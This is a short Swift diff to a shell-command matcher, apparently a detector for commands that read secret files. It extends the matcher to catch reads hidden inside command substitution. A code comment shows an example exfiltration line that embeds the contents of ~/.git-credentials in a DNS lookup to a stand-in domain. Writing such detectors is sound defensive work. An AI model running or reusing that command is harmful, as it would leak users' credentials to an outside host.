@@ -185,7 +185,9 @@ enum ShellMatchers {
         var steps = 0
         while cursor > view.line.lowerBound, steps < 4 {
             let tokenStart = ShellSyntax.tokenStart(view, cursor)
-            let word = ShellSyntax.word(view, tokenStart..<cursor)
+            var word = ShellSyntax.word(view, tokenStart..<cursor)
+            // A read inside a command substitution ("nslookup $(cat ~/.git-credentials).x.test").
+            while let first = word.first, first == "$" || first == "(" || first == "`" { word.removeFirst() }
             if readers.contains(word) {
                 let pathEnd = view.tokenEnd(end)
                 matches.append(TextMatch(
